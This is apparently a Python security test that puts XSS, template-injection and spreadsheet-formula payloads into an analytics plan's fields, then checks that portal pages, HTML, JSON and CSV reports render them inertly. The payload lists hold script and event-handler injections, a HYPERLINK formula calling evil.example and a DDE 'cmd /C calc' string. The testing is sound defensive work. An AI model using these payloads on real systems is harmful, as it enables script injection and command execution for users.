"""A plan whose every text tries to be something else: HTML, SVG, a script, a template's tag, a spreadsheet's formula. It
goes the whole way, and in Chromium each page and file shows the texts as they are; nothing runs and nothing becomes an
element or an attribute."""

import csv
import itertools
import json
import os
import re
import shutil
import subprocess
import tempfile

import yaml

import daemon
from browser import By, Browser
from daemon import BINARY, SAMPLE, check, say
from portal import House

# Each has § where its number goes, so that every text is found again.
TEXTS = [
    "<script>top.pwned='§'</script>",
    "\"><img src=x onerror=top.pwned='§'>",
    "'><svg onload=top.pwned='§'><pwn-ed>",
    "</title></style></textarea><script>top.pwned='§'</script>",
    "]]><pwn-ed id=§>§</pwn-ed>",
    "{{css}}{{{css}}}{{#frame}}§{{/frame}}{{^frame}}§",
    "=HYPERLINK(\"https://evil.example/?§\",\"§\")",
    "+cmd|' /C calc'!A0+§",
    "@SUM(1+§)*cmd",
    "-1+§&lt;pwn-ed&gt;&#60;pwn-ed&#62;",
    "</svg></table><a href=\"javascript:top.pwned='§'\">§</a>",
    "\" onmouseover=\"top.pwned='§'\" onfocus=\"top.pwned='§'\" autofocus x=\"",
    "<!-- §",
    "<pwn-ed onclick=top.pwned='§'>§",
]
# What a plan lets be a label, which goes into tables, drawings and other people's spreadsheets.
LABELS = [
    "<script>top.pwned=1</script>§", "<pwn-ed onclick=top.pwned=1>§", "</table><pwn-ed>§</pwn-ed>", "<!--§", "&lt§&#60pwn-ed",
    "{{css}}{{{css}}}§", "</title><img src=x onerror=top.pwned=1>§", "</text></svg><pwn-ed>§", "]]><pwn-ed>§",
]
FORMULAS = [text for text in TEXTS if text[0] in "=+-@"]
LOADING = "script, img, iframe, object, embed, base, link, textarea, pwn-ed, a[href^='javascript:' i], [srcdoc], [formaction]"
FOUND = """
    const all = [...document.querySelectorAll('*')];
    for (const each of all) {
        for (const name of ['mouseover', 'focus', 'click']) {
            if (name != 'click' || each.localName == 'pwn-ed') each.dispatchEvent(new Event(name, {bubbles: true}));
        }
    }
    return {
        pwned: window.top.pwned ?? null,
        made: [...document.querySelectorAll(arguments[0])].map(each => each.outerHTML),
        handlers: all.filter(each => [...each.attributes].some(other => /^on/i.test(other.name))).map(each => each.outerHTML),
        text: document.body.textContent + document.title,
        values: [...document.querySelectorAll('input')].map(each => each.value),
        drawn: [...document.querySelectorAll('svg title')].map(each => each.textContent),
        elements: all.length,
    }"""


class Texts:
    """Hostile texts, each used once, by what they stand for."""

    def __init__(self):
        self.numbers = itertools.count(1)
        self.of = {}

    def new(self, what, among=TEXTS):
        number = next(self.numbers)
        text = among[number % len(among)].replace("§", f"q{number}z")
        self.of.setdefault(what, []).append(text)
        return text

    def __getitem__(self, what):
        return self.of[what]

    def labels(self, partner):
        """The labels in a partner's report."""
        return self["label lifecycle"] + self["label step"] if partner == "bank" else self["label channel"]


def plan(texts):
    """The sample with every text in it replaced."""
    with open(os.path.join(SAMPLE, "shop.yaml")) as file:
        plan = yaml.safe_load(file)
    for key in ("title", "owner", "contact"):
        plan["app"][key] = texts.new("app " + key)
    for purpose in plan["purposes"].values():
        purpose["explanation"] = texts.new("purpose")
    renamed = {}
    for name, dimension in plan["dimensions"].items():
        dimension["title"] = texts.new("dimension")
        if isinstance(dimension.get("list"), list):
            dimension["list"] = {value: [value] for value in dimension["list"]}
        if "list" in dimension:
            renamed[name] = {label: texts.new("label " + name, LABELS) for label in dimension["list"]}
            dimension["list"] = {renamed[name][label]: values for label, values in dimension["list"].items()}
    for metric in plan["metrics"].values():
        # YAML reads a date, the plan a text.
        metric["expires"] = str(metric["expires"])
        for key in ("title", "question", "decision", "owner"):
            metric[key] = texts.new("metric " + key)
        for measure in [metric["measures"].get("histogram", {}), *metric["measures"].get("sums", {}).values()]:
            if "title" in measure:
                measure["title"] = texts.new("histogram")
            if "unit" in measure:
                measure["unit"] = texts.new("unit", ["<b>§", "{{css}}§", "=§"])
        for step in metric["measures"].get("funnel", {}).get("steps", []):
            step["title"] = texts.new("label step", LABELS)
    for name, insight in plan["insights"].items():
        insight["title"] = texts.new("insight " + name)
        insight["explanation"] = texts.new("insight " + name)
        for key in ("part", "where"):
            if key in insight:
                insight[key] = {on: renamed.get(on, {}).get(label, label) for on, label in insight[key].items()}
    for name, partner in plan["partners"].items():
        partner["title"] = texts.new("partner " + name)
        partner["contact"] = texts.new("contact")
    for report in plan["reports"].values():
        report["title"] = texts.new("report " + report["partner"])
        report["explanation"] = texts.new("report " + report["partner"])
    return plan


def tame(browser, what, shown=(), drawn=(), values=()):
    """Nothing came of the texts on the page that is open, and those that belong there are read as they are."""
    found = browser.run(FOUND, LOADING)
    check(found["elements"] > 20, what, "is no page:", found["text"][:300])
    check(found["pwned"] is None, what, "ran", found["pwned"])
    check(not found["made"], what, "has elements made from a text:", found["made"])
    check(not found["handlers"], what, "has attributes made from a text:", found["handlers"])
    text = " ".join(found["text"].split())
    for each in shown:
        check(each in text, what, "does not show", each)
    for each in drawn:
        check(any(each in title for title in found["drawn"]), what, "has no drawing's title with", each)
    for each in values:
        check(each in found["values"], what, "has no field with", each)
    said = [entry["message"] for entry in browser.driver.get_log("browser") if entry["level"] == "SEVERE"]
    said = [each for each in said if "the server responded with a status of 40" not in each]
    check(not said, what, "makes the browser complain:", said)


def pages(house, texts, browser, tokens):
    """Each page of the portal, as its visitor sees it."""
    def sign_in(token):
        browser.open(house.address + "/")
        browser.driver.find_element(By.NAME, "token").send_keys(token)
        browser.click(".door button")
        browser.until("return location.pathname !== '/' && document.readyState === 'complete'")

    for partner in ("bank", "magazine"):
        sign_in(tokens[partner])
        titles = texts["report " + partner]
        tame(browser, "the list of " + partner, texts["app title"] + texts["partner " + partner] + titles)
        text = browser.run("return document.body.textContent")
        other = "magazine" if partner == "bank" else "bank"
        check(not any(each in text for each in texts["partner " + other] + texts["report " + other]), "another's texts")
        browser.click(".latest a")
        browser.until("return document.querySelectorAll('.tile').length > 3")
        labels = texts.labels(partner)
        tame(browser, "the report in the portal", titles + labels + texts["app title"] + texts["app contact"], labels)
        browser.open(house.address + "/reports").click(".compare button")
        browser.until("return location.pathname.endsWith('/compare') && document.readyState === 'complete'")
        tame(browser, "the comparison of " + partner, titles[:1] + labels)
        for text in TEXTS:
            place = "".join(f"%{byte:02x}" for byte in text.encode())
            browser.open(f"{house.address}/reports/{place}/compare?from={place}&to={place}")
            tame(browser, "a page that is not there", ["There is no such report"])
        browser.open(house.address + "/reports").click(".who button")
    for text in TEXTS:
        browser.open(house.address + "/")
        browser.driver.find_element(By.NAME, "token").send_keys(text)
        browser.click(".door button")
        browser.until("return !!document.querySelector('[role=alert]')")
        tame(browser, "a refused sign-in")
    sign_in(tokens["operator"])
    tame(browser, "the operator's page", texts["app title"])
    say("the portal's pages are tame")


def transparency(house, texts, browser):
    browser.open(f"http://127.0.0.1:{house.port}/")
    shown = [text for what in texts.of for text in texts[what] if what.split()[0] in (
        "purpose", "dimension", "partner", "label", "insight") and what != "metric owner"]
    titles = [text for what in texts.of if what.startswith("insight ") for text in texts[what][1:]]
    tame(browser, "the transparency page", [text for text in shown if text not in titles] + texts["app title"]
         + texts["app contact"] + texts["metric title"] + texts["metric question"])
    browser.run("document.querySelectorAll('[maxlength]').forEach(each => each.removeAttribute('maxlength'))")
    fields = browser.driver.find_elements(By.CSS_SELECTOR, ".field input")
    typed = [text.replace("§", "trial") for text in TEXTS][:len(fields)]
    for field, text in zip(fields, typed):
        field.send_keys(text)
    browser.click("form button")
    browser.until("return !!document.querySelector('.result')")
    tame(browser, "a trial", values=typed)
    say("the transparency page is tame")


def refused(folder, plan):
    """A formula is no label: the plan is not even taken."""
    path = os.path.join(folder, "formula.yaml")
    for formula in FORMULAS:
        with open(path, "w") as file:
            plan["dimensions"]["lifecycle"]["list"] = {formula: ["new"]}
            yaml.safe_dump(plan, file)
        code, out, said = daemon.run("plan", "check", path)
        check(code != 0 and "can't be printed safely" in said + out, formula, "is a label:", code, out, said)
    say("formulas are no labels")


def files(folder, texts, browser):
    """The files as they are delivered, opened from a disk."""
    for partner in ("bank", "magazine"):
        reports = os.path.join(folder, "reports", partner)
        name = sorted(each for each in os.listdir(reports) if each.endswith(".html"))[-1][:-5]
        labels = texts.labels(partner)
        browser.open("file://" + os.path.join(reports, name + ".html"))
        tame(browser, name + ".html", labels + texts["partner " + partner] + texts["report " + partner], labels)
        with open(os.path.join(reports, name + ".json"), encoding="utf-8") as file:
            text = file.read()
        report = json.loads(text)
        check("<" not in text and "\u2028" not in text, name + ".json could end a script")
        check([report["title"], report["explanation"]] == texts["report " + partner], "texts come back as they were")
        buckets = {bucket for insight in report["insights"] for row in insight["rows"] for bucket in row["buckets"]}
        check(set(labels) & buckets, "and labels", buckets)
        with open(os.path.join(reports, name + ".csv"), encoding="utf-8", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        for cell in cells:
            number = re.fullmatch(r"-?\d+(\.\d+)?", cell)
            check(number or not cell[:1] or cell.lstrip()[:1] not in "=+-@\t\r|%\uff1d\uff0b\uff0d\uff20",
                  "a spreadsheet would run", repr(cell))
        for label in labels:
            check(label in cells, "the CSV lacks", label)
    say("the files are tame")


def test():
    folder = tempfile.mkdtemp(prefix="te-injection-", dir="/tmp")
    os.chmod(folder, 0o755)
    data, path, texts = os.path.join(folder, "demo"), os.path.join(folder, "shop.yaml"), Texts()
    with open(path, "w") as file:
        yaml.safe_dump(plan(texts), file, sort_keys=False, allow_unicode=True, width=10_000)
    done = subprocess.run(
        [BINARY, "demo", "--plan", path, "--crowd", SAMPLE, "--devices", "4000", "--days", "2", "--data", data, "--json"],
        capture_output=True, text=True, timeout=600, env=daemon.environment())
    check(done.returncode == 0, "throng demo ended with", done.returncode, done.stderr[-3000:])
    refused(folder, plan(Texts()))
    house = House(data)
    shutil.copy(path, house.plan)
    house.start()
    tokens = {partner: house.token("--partner", partner) for partner in ("bank", "magazine")}
    tokens["operator"] = house.token("--operator")
    with Browser(language="en") as browser:
        files(data, texts, browser)
        pages(house, texts, browser, tokens)
        transparency(house, texts, browser)
    check(house.stop() == 0, "SIGTERM ended with", house.process.returncode)
    house.clean()
    shutil.rmtree(folder, ignore_errors=True)


if __name__ == "__main__":
    daemon.main(test)
